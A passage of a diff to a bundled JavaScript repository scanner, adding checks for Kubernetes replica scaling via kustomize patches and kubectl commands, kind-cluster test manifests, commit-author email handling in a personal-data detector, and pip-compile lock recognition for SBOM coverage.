+        const m = /^\s*([\w./-]+)\s*==?\s*([\w.-]*)\s*$/.exec(term);
+        if (!m) {
+            scaled.all = true;
+            return;
+        }
+        labels.set(m[1], m[2]);
+    }
+    scaled.selectors.push({ ...kind, labels });
+}
+/** Whether a label selector of a patch's target selects `object` (its kind, and every label). */
+function selects(selector, object) {
+    if (selector.kind !== undefined && selector.kind !== object.kind)
+        return false;
+    const meta = k8s_isMap(object.node.value.metadata) ? object.node.value.metadata : undefined;
+    const labels = meta && k8s_isMap(meta.labels) ? meta.labels : {};
+    for (const [key, value] of selector.labels)
+        if (String(labels[key] ?? '\u0000') !== value)
+            return false;
+    return true;
+}
+const MENTIONS_REPLICAS = /\breplicas\b/;
+/** A kustomize target's `name`, which kustomize matches as an anchored regular expression. */
+function addTargetName(scaled, name) {
+    if (typeof name !== 'string' || name === '') {
+        scaled.all = true;
+        return;
+    }
+    if (/^[\w.-]+$/.test(name)) {
+        scaled.names.add(name);
+        return;
+    }
+    try {
+        scaled.patterns.push(new RegExp(`^(?:${name})$`));
+    }
+    catch {
+        scaled.all = true;
+    }
+}
+/**
+ * The workloads the kustomizations' patches may scale: a patch (`patches`, `patchesStrategicMerge`,
+ * `patchesJson6902`; inline or in a file) that mentions `replicas` anywhere, for the workload its
+ * target names, or, without a target, each object the patch itself names (a strategic-merge patch's
+ * `metadata.name`). Conservative: a patch whose target or objects name no workload scales them all.
+ */
+function kustomizePatchedReplicas(ws, scaled) {
+    for (const file of ws.glob(KUSTOMIZATIONS)) {
+        const parsed = ws.yaml(file);
+        const doc = parsed?.ok ? parsed.documents[0]?.value : undefined;
+        if (!k8s_isMap(doc))
+            continue;
+        const dir = external_node_path_.posix.dirname(file);
+        const content = (ref) => {
+            if (typeof ref !== 'string')
+                return undefined;
+            // An inline patch is YAML text; a one-line string is a file's path.
+            if (ref.includes('\n'))
+                return ref;
+            return ws.text(external_node_path_.posix.normalize(external_node_path_.posix.join(dir, ref.trim())));
+        };
+        const objectsOf = (text) => {
+            const patch = (0,yaml/* parseYaml */.hN)(text);
+            const names = patch.ok
+                ? patch.documents.flatMap((d) => {
+                    const meta = k8s_isMap(d.value) ? d.value.metadata : undefined;
+                    return k8s_isMap(meta) && typeof meta.name === 'string' ? [meta.name] : [];
+                })
+                : [];
+            if (names.length === 0)
+                scaled.all = true;
+            for (const name of names)
+                scaled.names.add(name);
+        };
+        const merge = doc.patchesStrategicMerge;
+        for (const entry of Array.isArray(merge) ? merge : []) {
+            const text = content(entry);
+            if (text !== undefined && MENTIONS_REPLICAS.test(text) && !setsOnlyZero(text))
+                objectsOf(text);
+        }
+        for (const key of ['patches', 'patchesJson6902']) {
+            const list = doc[key];
+            for (const entry of Array.isArray(list) ? list : []) {
+                if (!k8s_isMap(entry))
+                    continue;
+                const text = content(entry.patch) ?? content(entry.path);
+                if (text === undefined || !MENTIONS_REPLICAS.test(text) || setsOnlyZero(text))
+                    continue;
+                if (k8s_isMap(entry.target)) {
+                    if (entry.target.name !== undefined)
+                        addTargetName(scaled, entry.target.name);
+                    else
+                        addTargetSelector(scaled, entry.target);
+                }
+                else if (entry.target !== undefined)
+                    scaled.all = true;
+                else
+                    objectsOf(text);
+            }
+        }
+    }
+}
+/**
+ * Whether a patch sets the replica count only to `0` (`replicas: 0`, or JSON 6902 operations on a
+ * `replicas` path whose `value` is 0): it scales nothing up. A patch that cannot be read, or sets any
+ * other value, may.
+ */
+function setsOnlyZero(text) {
+    const patch = (0,yaml/* parseYaml */.hN)(text);
+    if (!patch.ok)
+        return false;
+    const values = [];
+    const visit = (node, depth) => {
+        if (depth > 64) {
+            values.push(undefined);
+            return;
+        }
+        if (Array.isArray(node)) {
+            for (const item of node)
+                visit(item, depth + 1);
+            return;
+        }
+        if (!k8s_isMap(node))
+            return;
+        if (typeof node.path === 'string' && /replicas/.test(node.path) && 'value' in node)
+            values.push(node.value);
+        for (const [key, value] of Object.entries(node)) {
+            if (key === 'replicas')
+                values.push(value);
+            else
+                visit(value, depth + 1);
+        }
+    };
+    for (const d of patch.documents)
+        visit(d.value, 0);
+    return values.length > 0 && values.every((v) => v === 0);
+}
+/** Workflows, actions and the scripts and task files a deployment runs `kubectl` from. */
+const COMMAND_FILES = [
+    ...parsers_workflow/* WORKFLOW_GLOBS */.iK,
+    ...parsers_workflow/* ACTION_GLOBS */.Hy,
+    '**/*.sh',
+    '**/*.bash',
+    '**/Makefile',
+    '**/*.mk',
+    '**/[Jj]ustfile',
+    '**/Taskfile.{yml,yaml}',
+];
+/** A `kubectl` or `oc` command that scales or patches, to the end of its command. */
+const SCALE_COMMAND = /\b(?:kubectl|oc)\b([^\n;&|]*?\b(?:scale|patch)\b[^\n;&|]*)/g;
+/** Options whose value is no workload's name. */
+const VALUE_OPTIONS = new Set([
+    '-n',
+    '--namespace',
+    '--context',
+    '--cluster',
+    '--kubeconfig',
+    '-o',
+    '--output',
+]);
+/**
+ * The workloads a workflow, action or script scales up: `kubectl scale deployment/agent --replicas=3`
+ * (or `oc scale`, or `kubectl patch ... replicas ...`). Every word of the command may name the
+ * workload (`deployment agent`, `deploy/agent`); a selector, `--all`, a file or a variable scales
+ * any. A count written as `0` scales nothing up; one written otherwise (a variable) may.
+ */
+function commandReplicas(ws, scaled) {
+    for (const file of ws.glob(COMMAND_FILES)) {
+        const raw = ws.text(file);
+        if (raw === undefined || !/\b(?:kubectl|oc)\b/.test(raw) || !MENTIONS_REPLICAS.test(raw))
+            continue;
+        const text = raw.replace(/\\\r?\n/g, ' ');
+        for (const m of text.matchAll(SCALE_COMMAND)) {
+            const command = m[1];
+            if (!MENTIONS_REPLICAS.test(command))
+                continue;
+            if (/--replicas[=\s]+["']?0["']?(?:\s|$)/.test(command))
+                continue;
+            const words = command.trim().split(/\s+/);
+            for (let i = 0; i < words.length; i++) {
+                const word = words[i].replace(/^["']|["']$/g, '');
+                if (/^(?:-l|--selector|--all|-f|--filename|-k|--kustomize)(?:=|$)/.test(word)) {
+                    scaled.all = true;
+                    continue;
+                }
+                if (VALUE_OPTIONS.has(word)) {
+                    i++;
+                    continue;
+                }
+                // Other options (the count, `--namespace=$NS`) name no workload, whatever their value.
+                if (word.startsWith('-'))
+                    continue;
+                if (/\$|\{\{|%|`/.test(word)) {
+                    scaled.all = true;
+                    continue;
+                }
+                scaled.names.add(word.slice(word.lastIndexOf('/') + 1));
+            }
+        }
+    }
+}
 /**
  * The workloads switched off in the manifests: `replicas: 0` written as a number, with no
- * HorizontalPodAutoscaler or KEDA ScaledObject of the manifests naming them (in any namespace) and
- * no kustomization setting their count. Their hardening findings are reported at low confidence:
+ * HorizontalPodAutoscaler or KEDA ScaledObject of the manifests naming them (in any namespace), no
+ * kustomization setting their count (its `replicas:` field, or a patch that mentions replicas, see
+ * {@link kustomizePatchedReplicas}), and no workflow or script scaling them up (`kubectl scale`, see
+ * {@link commandReplicas}). Their hardening findings are reported at low confidence:
  * nothing of them runs as committed. A pull request can write `replicas: 0`, but then the workload
  * it adds or changes does not run; the change that scales it up is the one that makes the gap real,
  * and it restores the findings' confidence.
@@ -16417,14 +17010,123 @@ function idleWorkloads(workspace) {
         // An autoscaler of another namespace may be a copy of the manifests for another cluster: any
         // that names the workload keeps it judged.
         const scaled = new Set(objects.flatMap(scaleTarget).map((key) => key.slice(0, key.lastIndexOf('\u0000'))));
-        const overlaid = kustomizeReplicas(workspace);
+        const overlaid = {
+            names: kustomizeReplicas(workspace),
+            patterns: [],
+            selectors: [],
+            all: false,
+        };
+        kustomizePatchedReplicas(workspace, overlaid);
+        commandReplicas(workspace, overlaid);
+        if (overlaid.all)
+            return idle;
         for (const object of zero) {
             const name = object.name ?? '';
-            if (scaled.has(`${object.kind}\u0000${name}`) || overlaid.has(name))
+            if (scaled.has(`${object.kind}\u0000${name}`) || overlaid.names.has(name))
+                continue;
+            if (overlaid.patterns.some((p) => p.test(name)))
+                continue;
+            if (overlaid.selectors.some((selector) => selects(selector, object)))
                 continue;
             idle.set(object, IDLE_NOTE);
         }
         return idle;
+    });
+}
+/**
+ * Why a manifest's findings are low because only a throw-away kind cluster gets it, as the last
+ * {@link examinedPods} of the run found it (see {@link kindClusterFixtures}). Keyed by the object.
+ */
+const KIND_FIXTURE = new WeakMap();
+/**
+ * Notes which of the objects a rule judges are in manifests applied only to a throw-away kind
+ * cluster (see {@link kindClusterFixtures}), for {@link findingAt}: every rule that reports on
+ * objects calls it (through {@link examinedPods}, or itself) before it reports, so that their grade
+ * never depends on which rule ran first.
+ */
+function noteKindFixtures(workspace, objects) {
+    if (objects.length === 0)
+        return;
+    const kind = kindClusterFixtures(workspace);
+    for (const object of objects) {
+        const applied = kind.get(object.path);
+        if (applied === undefined)
+            KIND_FIXTURE.delete(object);
+        else
+            KIND_FIXTURE.set(object, applied);
+    }
+}
+/** Makefiles and shell scripts: where a repository writes how it brings up its development clusters. */
+const CLUSTER_SCRIPTS = ['**/Makefile', '**/makefile', '**/GNUmakefile', '**/*.mk', '**/*.sh', '**/*.bash'];
+/**
+ * A command that creates a local kind cluster or points kubectl at one: `kind create cluster`,
+ * `kind get kubeconfig` / `kind export kubeconfig` (kind's kubeconfig), or a kubectl context that
+ * kind named (`--context kind-dev`, `kubectl config use-context kind-dev`).
+ */
+const KIND_CLUSTER = /\bkind\s+(?:create\s+cluster|(?:get|export)\s+kubeconfig)\b|--(?:kube-)?context[=\s]+["']?kind-|\buse-context\s+["']?kind-/;
+/** A kubectl context that kind did not name: the same commands may reach another cluster. */
+const OTHER_CONTEXT = /--(?:kube-)?context[=\s]+["']?(?!kind-)[\w$]|\buse-context\s+["']?(?!kind-)[\w$]/;
+/** A YAML file's path as a script writes it (`./hack/dev.yaml`, `deploy/app.yml`). */
+const YAML_PATH = /[\w./-]+\.ya?ml\b/g;
+/**
+ * The scripts that may name a manifest: those that write a YAML file's path or a kind cluster
+ * command. A change to any other Makefile or shell script cannot change which manifests only a kind
+ * cluster gets.
+ */
+const CLUSTER_SCRIPT_SCREEN = (0,screens/* defineScreen */.ME)('k8s-cluster-scripts', (_file, text) => /\.ya?ml\b/.test(text) || KIND_CLUSTER.test(text));
+/** A Makefile's rules: each target line with its recipe, up to the next target line. */
+function makeRules(text) {
+    return text.split(/^(?=[^\s#][^=\n]*?:(?!=))/m);
+}
+/**
+ * The manifests that the repository applies only to a throw-away kind cluster, with why: every
+ * Makefile rule (a target and its recipe) or shell script that names the file also creates or targets
+ * a kind cluster, and names no other kubectl context; no workflow names it, and no kustomization
+ * lists it or a folder above it. Such a manifest is test material wherever its folder is (a dev
+ * folder's name is not the evidence: the script that applies it is). Paths are taken as written,
+ * from the script's folder or the repository's top; one written with a variable is not known, so a
+ * manifest a variable names is never taken for a kind cluster's.
+ */
+function kindClusterFixtures(workspace) {
+    return workspace.memo('k8s-kind-fixtures', '', () => {
+        const byKind = new Map();
+        const otherwise = new Set();
+        for (const file of workspace.screenedGlob(CLUSTER_SCRIPTS, CLUSTER_SCRIPT_SCREEN)) {
+            const text = workspace.text(file);
+            if (text === undefined)
+                continue;
+            const folder = file.includes('/') ? file.slice(0, file.lastIndexOf('/') + 1) : '';
+            const units = /\.(?:sh|bash)$/.test(file) ? [text] : makeRules(text);
+            for (const unit of units) {
+                const kind = KIND_CLUSTER.test(unit) && !OTHER_CONTEXT.test(unit);
+                for (const [written] of unit.matchAll(YAML_PATH)) {
+                    const bare = written.replace(/^(?:\.\/)+/, '');
+                    for (const path of new Set([`${folder}${bare}`, bare])) {
+                        if (!kind)
+                            otherwise.add(path);
+                        else if (!byKind.has(path)) {
+                            const target = /\.(?:sh|bash)$/.test(file) ? '' : /^[^:\n]*/.exec(unit)[0].trim();
+                            byKind.set(path, target ? `the "${target}" rule of ${file}` : file);
+                        }
+                    }
+                }
+            }
+        }
+        const fixtures = new Map();
+        if (byKind.size === 0)
+            return fixtures;
+        const listed = [...(0,k8s_files/* kustomizeListings */.jZ)(workspace).keys()];
+        const workflows = workspace.glob(parsers_workflow/* WORKFLOW_GLOBS */.iK).map((w) => workspace.text(w) ?? '');
+        for (const [path, by] of byKind) {
+            if (otherwise.has(path) || !workspace.has(path))
+                continue;
+            if (listed.some((l) => l === path || path.startsWith(`${l}/`)))
+                continue;
+            if (workflows.some((w) => w.includes(path)))
+                continue;
+            fixtures.set(path, `the manifest is applied only to a throw-away kind cluster, by ${by}, which creates or targets one: test material, not a deployment`);
+        }
+        return fixtures;
     });
 }
 /** Calls `visit` for every container of every workload in the workspace (see {@link examinedPods}). */
@@ -16432,6 +17134,13 @@ function eachContainer(workspace, visit, pods = examinedPods(workspace)) {
     for (const pod of pods)
         for (const c of containersOf(pod))
             visit(c);
+}
+/**
+ * A boolean setting of `object` as Kubernetes reads it (a plain `yes` or `on` is true, see
+ * {@link kubernetesBoolean}), or undefined when it is missing or no boolean.
+ */
+function k8sBoolean(object, node) {
+    return node ? kubernetesBoolean(object.document, node.pointer, node.value) : undefined;
 }
 /** `securityContext.<key>` of a container, when set. */
 function containerSetting(c, key) {
@@ -16443,7 +17152,7 @@ function containerSetting(c, key) {
  * pod's says: the rules about those settings leave it to k8s.privileged, which reports it.
  */
 function isPrivileged(c) {
-    return containerSetting(c, 'privileged')?.value === true;
+    return k8sBoolean(c.pod.object, containerSetting(c, 'privileged')) === true;
 }
 /** `securityContext.<key>` of a pod spec, when set. */
 function podSetting(pod, key) {
@@ -16478,6 +17187,10 @@ function findingAt(c, node, message, keyParts, anchor = 'value', whenIdle = 'low
     if ((0,confidence/* inGithubConfig */.Jp)(c.object.path)) {
         return { message: `${message} (${CI_FIXTURE_NOTE}.)`, location, key, confidence: 'low' };
     }
+    const applied = KIND_FIXTURE.get(c.object);
+    if (applied !== undefined) {
+        return { message: `${message} (But ${applied}.)`, location, key, confidence: 'low' };
+    }
     const idle = whenIdle === 'lower' ? IDLE.get(c.object) : undefined;
     return idle
         ? { message: `${message} (But ${idle}.)`, location, key, confidence: 'low' }
@@ -16496,14 +17209,13 @@ const NO_OPTIONS = { type: 'object', additionalProperties: false, properties: {}
 
 
 
+
 /**
- * `privileged: true`, or the string Compose reads as true. An interpolated value (`${PRIVILEGED}`) is
- * not a literal and is never judged.
+ * `privileged: true`, or a value Compose reads as true (`yes`, `on`, `y`, quoted or not: see
+ * {@link composeBoolean}). An interpolated value (`${PRIVILEGED}`) is not a literal and is never judged.
  */
 function privileged_isPrivileged(value) {
-    if (value === true)
-        return true;
-    return typeof value === 'string' && value.trim().toLowerCase() === 'true';
+    return composeBoolean(value) === true;
 }
 /**
  * The services that do not run privileged: a privileged one has every capability, device and host
@@ -16622,11 +17334,13 @@ const EFFECTS = {
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/compose/mounts.js
 
+
 /**
  * The bind mount a `volumes:` entry declares: the short syntax `SOURCE:TARGET[:OPTIONS]` whose source
  * is a path (absolute, `~`, or a variable), or a long-syntax entry of `type: bind` (or no type) with a
  * `source`. Undefined for named volumes, tmpfs, and a lone `TARGET` (an anonymous volume). Read-only
- * is the `ro` option of the short syntax and `read_only: true` of the long one.
+ * is the `ro` option of the short syntax and `read_only: true` (or another value Compose reads as true,
+ * see {@link composeBoolean}) of the long one.
  */
 function bindMount(entry) {
     if (typeof entry === 'string') {
@@ -16645,7 +17359,7 @@ function bindMount(entry) {
         const ro = entry.read_only;
         return {
             source: entry.source.trim(),
-            readOnly: ro === true || (typeof ro === 'string' && ro.trim().toLowerCase() === 'true'),
+            readOnly: composeBoolean(ro) === true,
         };
     }
     return undefined;
@@ -17863,9 +18577,11 @@ function detectSsns(line, out) {
 const EMAIL = /(?<![\w.%+-])([A-Za-z0-9][A-Za-z0-9._%+-]{0,63})@([A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,3})(?![\w-])/g;
 /**
  * Local parts that are placeholders, not people: exact names, and words that mark test data, and the
- * roles an address fills in a test of permissions (`member`, `owner`, `viewer`, `editor`).
+ * roles an address fills in a test of permissions (`member`, `owner`, `viewer`, `editor`). The
+ * Jane and John Doe personas also go by a first name and the surname's initial (`janed`, `john.d`),
+ * as by `jdoe`.
  */
-const PLACEHOLDER_LOCAL = /^(?:me|you|him|her|user|username|name|email|mail|member|owner|viewer|editor|reader|writer|guest|customer|client|tenant|manager|operator|approver|reviewer|requester|assignee|recipient|sender|receiver|subscriber|participant|employee|staff|someone|somebody|anyone|nobody|person|admin|root|info|contact|hello|hi|support|sales|team|abc|xyz|asdf|qwerty|aaa|xxx|foo|bar|baz|qux|john|jane|joe|jdoe|alice|bob|carol|charlie|dave|eve|mallory|trent|x|y|z|a|b|c|(?:first|your|my)[._-]?(?:name|email|mail|last)|firstname[._-]?lastname|(?:john|jane|joe|richard|max|erika|jan|mario|john[._-]?q)[._-]?(?:doe|roe|public|mustermann|musterfrau|kowalski|rossi|smith)|(?:jane|john)doe)\d{0,4}$/i;
+const PLACEHOLDER_LOCAL = /^(?:me|you|him|her|user|username|name|email|mail|member|owner|viewer|editor|reader|writer|guest|customer|client|tenant|manager|operator|approver|reviewer|requester|assignee|recipient|sender|receiver|subscriber|participant|employee|staff|someone|somebody|anyone|nobody|person|admin|root|info|contact|hello|hi|support|sales|team|abc|xyz|asdf|qwerty|aaa|xxx|foo|bar|baz|qux|john|jane|joe|jdoe|alice|bob|carol|charlie|dave|eve|mallory|trent|x|y|z|a|b|c|(?:first|your|my)[._-]?(?:name|email|mail|last)|firstname[._-]?lastname|(?:john|jane|joe|richard|max|erika|jan|mario|john[._-]?q)[._-]?(?:doe|roe|public|mustermann|musterfrau|kowalski|rossi|smith)|(?:jane|john)doe|(?:jane|john|joe)[._-]?d)\d{0,4}$/i;
 const PLACEHOLDER_WORD = /test|example|sample|demo|dummy|fake|bogus(?!l)|mock|fixture|placeholder|invalid|noreply|no-reply|donotreply|nobody|spam|foo|bar|lorem|ipsum|changeme|fabrikam|contoso|northwind|adventure-?works|tailspin|wingtip|litware|initech|globex|user\d*$|^\d+$|^[0-9a-f]{12,}$/i;
 /**
  * A generic account word, a separator, then what a test of address syntax varies
@@ -17938,6 +18654,13 @@ const gmailUsername = (name) => {
 const JOINED_AFTER = /^[,;][A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}\./;
 /** Another address right before this one, joined by `,` or `;` with no space. */
 const JOINED_BEFORE = /[A-Za-z0-9._%+-]@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63}){1,3}[,;]$/;
+/**
+ * A field that records who made a commit, just before the address (`"vcsCommitAuthorEmail": "`,
+ * `git_last_modified_by = "`, `committerEmail:`): the commit metadata of a version-control system or
+ * of the tags a tool derives from it. A git identity `Name <address>` is authorship and not reported;
+ * the same address in a field of a record copied from the history is reported at low confidence.
+ */
+const COMMIT_IDENTITY = /(?:commit[_-]?(?:author|committer)|committer|git[_-]?(?:author|last[_-]?modified[_-]?by|modifiers?))[_-]?(?:e?[_-]?mail|address)?["']?[ \t]*[:=][ \t]*["']?[^"'\s]{0,8}$/i;
 /** Words just before an address that say it is made up: "test alias@gmail.com". */
 const MADE_UP_BEFORE = /(?:test|example|fake|dummy|sample|placeholder)\W{0,3}\w{0,12}\W{0,3}$/i;
 function detectEmails(line, domains, out) {
@@ -17971,6 +18694,9 @@ function detectEmails(line, domains, out) {
             start: m.index,
             end,
             ...(joined ? { joined } : {}),
+            ...(COMMIT_IDENTITY.test(line.slice(Math.max(0, m.index - 60), m.index))
+                ? { commitIdentity: true }
+                : {}),
         });
     }
 }
@@ -18085,6 +18811,8 @@ const SIGNING_IDENTITY_KEY = /^[ \t]*(?:-[ \t]+)?["']?(?:subject|subjectRegExp|i
 const KEYLESS_SIGNING = /\bkeyless\b|\bsigstore\b|\bcosign\b|\bfulcio\b/i;
 const SIGNING_IDENTITY_NOTE = 'a keyless signing identity a signature verifier requires: public in the transparency log with the ' +
     'signatures it made, and needed to verify them, so it is reported at low confidence';
+const COMMIT_IDENTITY_NOTE = "a commit author's address in a field that records who made a commit, copied from a " +
+    'version-control history where it is public with the commit: reported at low confidence';
 /**
  * `data.personal-data`: real-looking personal data (card numbers, IBANs, social security numbers,
  * personal e-mail addresses) in the selected files. Values are never printed: a finding names the
@@ -18165,12 +18893,15 @@ const dataPersonalData = (0,types/* defineEvaluator */.D)({
                         : signing
                             ? `${file} holds ${NOUNS[datum.kind]} (${datum.masked}) in ${options.where} as ` +
                                 `${SIGNING_IDENTITY_NOTE}${also}.`
-                            : `${file} holds ${NOUNS[datum.kind]} (${datum.masked}) in ${options.where}: real-looking personal ` +
-                                `data${also}.`,
+                            : datum.commitIdentity
+                                ? `${file} holds ${NOUNS[datum.kind]} (${datum.masked}) in ${options.where} as ` +
+                                    `${COMMIT_IDENTITY_NOTE}${also}.`
+                                : `${file} holds ${NOUNS[datum.kind]} (${datum.masked}) in ${options.where}: real-looking personal ` +
+                                    `data${also}.`,
                     location: { path: file, startLine: line, startColumn: datum.start + 1, endColumn: datum.end },
                     key: `${datum.kind}:${(0,external_node_crypto_.createHash)('sha256').update(datum.value).digest('hex').slice(0, 16)}`,
                     ...(datum.joined ? { severity: 'low' } : {}),
-                    ...(signing ? { confidence: 'low' } : {}),
+                    ...(signing || datum.commitIdentity ? { confidence: 'low' } : {}),
                 });
             });
         }
@@ -21148,6 +21879,7 @@ async function sbomInventory(root, selection) {
 
 
 
+
 /** Lockfiles that list the packages of each ecosystem the lockfile-missing rule does not cover. */
 const LOCKS = {
     gradle: /(?:^|\/)(?:buildscript-)?gradle\.lockfile$/,
@@ -21247,11 +21979,12 @@ const depsSbomCoverage = (0,types/* defineEvaluator */.D)({
                 if (line === undefined)
                     continue;
                 const tooling = onlyTooling(workspace, m.file);
+                const compiled = tooling ? undefined : compiledFrom(workspace, manifests, m.file);
                 findings.push({
-                    message: `${m.file} has requirements without an exact version (==), so an SBOM of this repository cannot list the versions installed.${tooling ? ` It lists only Python packaging and environment tools (pip, setuptools, virtualenv, tox and the like), which set up a build or a test run and are no part of what the project ships.` : ''}`,
+                    message: `${m.file} has requirements without an exact version (==), so an SBOM of this repository cannot list the versions installed.${tooling ? ` It lists only Python packaging and environment tools (pip, setuptools, virtualenv, tox and the like), which set up a build or a test run and are no part of what the project ships.` : ''}${compiled ? ` It is the input of ${compiled}, which pins every requirement (a pip-compile lock whose \`# via -r\` notes name this file): what is installed from the lock is listed.` : ''}`,
                     location: { path: m.file, startLine: line },
                     key: `unpinned:${m.file}`,
-                    ...(tooling ? { confidence: 'low' } : {}),
+                    ...(tooling || compiled ? { confidence: 'low' } : {}),
                 });
             }
         }
@@ -21275,6 +22008,28 @@ function realProblem(ws, lock) {
             : undefined;
     }
     return lock.problem;
+}
+/**
+ * The pinned requirements file compiled from `input`, when one is: a requirements file of the tree
+ * whose every requirement is pinned and whose pip-compile notes (`# via -r unfrozen/requirements.txt`,
+ * paths relative to the lock) name `input`. The lock is what an install uses and the SBOM lists; the
+ * loose input only says which packages to resolve. Low confidence rather than no finding: nothing
+ * here shows that no build installs the input itself.
+ */
+function compiledFrom(ws, manifests, input) {
+    for (const lock of manifests) {
+        if (lock.ecosystem !== 'pip' ||
+            lock.file === input ||
+            !/(?:^|\/)requirements[^/]*\.txt$/i.test(lock.file))
+            continue;
+        const text = ws.text(lock.file) ?? '';
+        const names = [...text.matchAll(/^[ \t]*#[ \t]+(?:via[ \t]+)?-r[ \t]+(\S+)[ \t]*$/gm)].map((r) => r[1]);
+        const dir = sbom_coverage_dirOf(lock.file);
+        const named = names.some((n) => posix_namespaceObject.normalize(dir === '' ? n : `${dir}/${n}`) === input);
+        if (named && firstUnpinned(ws, lock.file) === undefined)
+            return lock.file;
+    }
+    return undefined;
 }
 /** The directory of a file ("" for the root). */
 function sbom_coverage_dirOf(file) {
@@ -22771,8 +23526,6 @@ const OFFICIAL_IMAGE_REBUILT = `${SOURCE} and rebuilds it whenever one of them i
 
 // EXTERNAL MODULE: ./lib/core/evaluators/deps/update-config.js
 var update_config = __nccwpck_require__(1387);
-// EXTERNAL MODULE: ./lib/core/parsers/workflow.js
-var parsers_workflow = __nccwpck_require__(8539);
 // EXTERNAL MODULE: ./node_modules/picomatch/index.js
 var picomatch = __nccwpck_require__(4006);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/pr-evidence-follow.js
@@ -23298,7 +24051,7 @@ var shell = __nccwpck_require__(1248);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/deps/update-programs.js
 
 /** Options that take a value (as the next word), per program; others are flags or `--name=value`. */
-const VALUE_OPTIONS = {
+const update_programs_VALUE_OPTIONS = {
     go: ['-C', '-modfile'],
     npm: ['--prefix', '-w', '--workspace'],
     ncu: [
@@ -23329,7 +24082,7 @@ const VALUE_OPTIONS = {
 };
 /** Splits the words after a program into options and positional words. */
 function parseArgs(words, program) {
-    const takesValue = new Set(VALUE_OPTIONS[program] ?? []);
+    const takesValue = new Set(update_programs_VALUE_OPTIONS[program] ?? []);
     const options = new Map();
     const positional = [];
     for (let i = 0; i < words.length; i++) {
@@ -23482,7 +24235,10 @@ const PROGRAMS = {
         const a = parseArgs(words, 'pip-compile');
         if (!has(a, '-U', '--upgrade') || dryRun(a))
             return undefined;
-        const files = a.positional.length > 0 ? a.positional.map((f) => posix_namespaceObject.dirname(f)) : undefined;
+        // It writes its output file (`-o dir/requirements.txt`), beside or away from its inputs.
+        const output = update_programs_option(a, '-o', '--output-file');
+        const inputs = a.positional.length > 0 ? a.positional.map((f) => posix_namespaceObject.dirname(f)) : undefined;
+        const files = output ? [...(inputs ?? ['.']), posix_namespaceObject.dirname(output)] : inputs;
         return { ecosystem: 'pip', reach: 'package', names: COMPILED, ...(files ? { files } : {}) };
     },
     uv(words) {
@@ -23903,13 +24659,18 @@ function matrixValues(job, name) {
 /** Names of the programs whose callee texts are read: make, and scripts run by path or by a shell. */
 const CALLERS = /^(?:g?make|(?:ba|z|da)?sh|.+\.(?:sh|bash))$/;
 /**
+ * Whether a command runs a file of the repository by its path (`ci/relock`, `./hack/update`): an
+ * executable script without an extension too (followCalls reads it when it has a shebang).
+ */
+const runsByPath = (view) => (view.command.words[view.nameIndex]?.value ?? '').includes('/');
+/**
  * The Makefile recipes and repository scripts a script calls from the root (their paths are looked
  * up from the root), each with the directory it starts in (`make -C dir` runs there).
  */
 function calledTexts(ws, script, start) {
     const out = [];
     for (const { view, dir } of placedCommands(script, start)) {
-        if (!dir?.exact || dir.path !== '' || !CALLERS.test(view.name))
+        if (!dir?.exact || dir.path !== '' || !(CALLERS.test(view.name) || runsByPath(view)))
             continue;
         const words = view.command.words.slice(view.nameIndex + 1).map((w) => w.value);
         const c = words.findIndex((w) => w === '-C' || w === '--directory');
@@ -24330,7 +25091,10 @@ const depsUpdateCoverage = (0,types/* defineEvaluator */.D)({
                 if (chosen)
                     return qualified(finding, chosen, { confidence: 'low' });
                 // An npm manifest of build-time tools only (see buildToolsOnly).
-                const buildTools = buildToolsOnly(workspace, all) ?? repositoryScripts(workspace, all);
+                const buildTools = buildToolsOnly(workspace, all) ??
+                    repositoryScripts(workspace, all) ??
+                    developmentRequirements(workspace, all) ??
+                    ownReleasePins(workspace, all);
                 if (buildTools) {
                     return qualified(finding, buildTools, { severity: 'low' });
                 }
@@ -24487,6 +25251,96 @@ function repositoryScripts(workspace, all) {
             return undefined;
     }
     return `it lists the requirements of the repository's own scripts (under ${all[0].file.slice(0, all[0].file.indexOf('/') + 1)}), with no Python package beside it: tools that developers and CI run, nothing installed from it where the project runs`;
+}
+/**
+ * The names a pip requirements file lists (lower case, `_` and `.` as `-`), or undefined when it does
+ * more than list packages: an editable or local install (`-e .`, a path, a URL), an option other than
+ * an index, an included file, a constraint or a hash.
+ */
+function requirementNames(text) {
+    const names = [];
+    for (const raw of text.replace(/\\\r?\n/g, ' ').split(/\r?\n/)) {
+        const line = raw.replace(/(?:^|\s)#.*$/, '').trim();
+        if (line === '')
+            continue;
+        if (line.startsWith('-')) {
+            if (/^(?:-[rci]|--(?:requirement|constraint|index-url|extra-index-url|hash))\b/.test(line))
+                continue;
+            return undefined;
+        }
+        const m = /^([A-Za-z0-9][A-Za-z0-9._-]*)(?=\s*(?:\[|[=<>!~;]|$|\s))/.exec(line);
+        if (!m)
+            return undefined;
+        names.push(m[1].toLowerCase().replace(/[_.]+/g, '-'));
+    }
+    return names;
+}
+/** The pip requirement files of a directory with no Python package beside them: their names, by file. */
+function plainRequirements(workspace, all) {
+    const out = new Map();
+    for (const m of all) {
+        const name = m.file.slice(m.file.lastIndexOf('/') + 1);
+        if (m.ecosystem !== 'pip' || !/^requirements.*\.(?:txt|in)$/.test(name))
+            return undefined;
+        const beside = (f) => (m.dir === '' ? f : `${m.dir}/${f}`);
+        if (['setup.py', 'setup.cfg', 'pyproject.toml'].some((f) => workspace.has(beside(f))))
+            return undefined;
+        const names = requirementNames(workspace.text(m.file) ?? '');
+        if (!names || names.length === 0)
+            return undefined;
+        out.set(m.file, names);
+    }
+    return out.size > 0 ? out : undefined;
+}
+/**
+ * Developers' and documentation tools: hooks, linters, formatters, test runners, documentation
+ * generators and their themes and plugins, release helpers. They run on a developer's machine or in
+ * CI; none is a library a program imports where the project runs.
+ */
+const DEVELOPMENT_TOOL = /^(?:pre-commit|mkdocs(?:-.+)?|mkdocstrings(?:-.+)?|pymdown-extensions|mike|sphinx(?:-.+)?|sphinxcontrib-.+|furo|myst-parser|pydata-sphinx-theme|black|flake8(?:-.+)?|ruff|mypy|pylint|isort|autopep8|yapf|bandit|codespell|yamllint|tox|nox|pytest(?:-.+)?|coverage|pip-tools|twine|bump2version|bumpversion|commitizen|towncrier)$/;
+/**
+ * Why pip requirement files hold developers' tools only, when every requirement of every one of the
+ * directory's files (with no Python package beside them) is a hook, linter, test runner or
